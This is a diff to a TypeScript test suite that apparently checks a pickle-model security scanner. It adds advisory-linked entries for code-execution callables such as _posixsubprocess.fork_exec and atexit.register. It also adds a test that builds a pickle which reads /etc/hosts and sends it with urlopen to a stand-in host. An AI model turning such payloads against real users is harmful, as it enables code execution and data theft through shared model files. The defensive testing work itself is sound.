@@ -83,11 +83,17 @@ const UNLISTED: readonly (readonly [string, string, string])[] = [
   ['GHSA-fphw-536r-4p88', '_pickle', 'loads'],
   ['GHSA-r48f-3986-4f9c', 'difflib', 'Differ'],
   ['GHSA-5cxw-w2xg-2m8h', 'platform', '_syscmd_ver'],
+  ['GHSA-m6fh-58r7-x697 (program)', '_posixsubprocess', 'fork_exec'],
+  ['GHSA-m6fh-58r7-x697 (.pth files)', 'site', 'addsitedir'],
+  ['GHSA-m6fh-58r7-x697 (at exit)', 'atexit', 'register'],
   ['GHSA-6ggj-6f2q-f7mx', '_pyrepl.console', 'InteractiveColoredConsole'],
   ['modelscan #338 mlflow', 'mlflow.projects.backend.local', '_run_entry_point'],
   ['modelscan #338 pandas', 'pandas.io.parsers.readers', 'read_csv'],
   ['Checkmarx bdb', 'bdb', 'Bdb.run'],
 ];
+
+// GHSA-pc6j-px3p-rrj4 (fickling 0.1.11) names further modules that its deny-list lacked; which, is not public. A module
+// that no list knows is what every case here is, and the allow-list denies them all.
 
 describe('callables that deny-lists have missed', () => {
   it.each(UNLISTED)('%s: %s.%s', async (_advisory, module, name) => {
@@ -104,4 +110,23 @@ describe('callables that deny-lists have missed', () => {
     expect(anyAtLeast(await audit({ 'model.bin': dotted }), 'medium')).toBe(true);
     expect(anyAtLeast(await audit({ 'weights.dat': bytesOf(call(module, name, 'x'), op.stop) }), 'medium')).toBe(true);
   });
+});
+
+it('CVE-2026-53872 GHSA-9726-w42j-3qjr: a file that is read and sent away, with neither named dangerous by itself', async () => {
+  const opened = bytesOf(op.global('io', 'FileIO'), op.mark, op.str('/etc/hosts'), op.str('r'), op.tuple, op.reduce);
+  const sent = bytesOf(
+    op.proto(4),
+    op.global('urllib.request', 'urlopen'),
+    op.mark,
+    op.str('https://model.example/'),
+    opened,
+    op.tuple,
+    op.reduce,
+    op.stop,
+  );
+  const found = await audit({ 'model.pkl': sent });
+  const text = found.findings.map(({ message }) => message).join('\n');
+  expect(text).toMatch(/FileIO/);
+  expect(text).toMatch(/urlopen/);
+  expect(anyAtLeast(found, 'high')).toBe(true);
 });
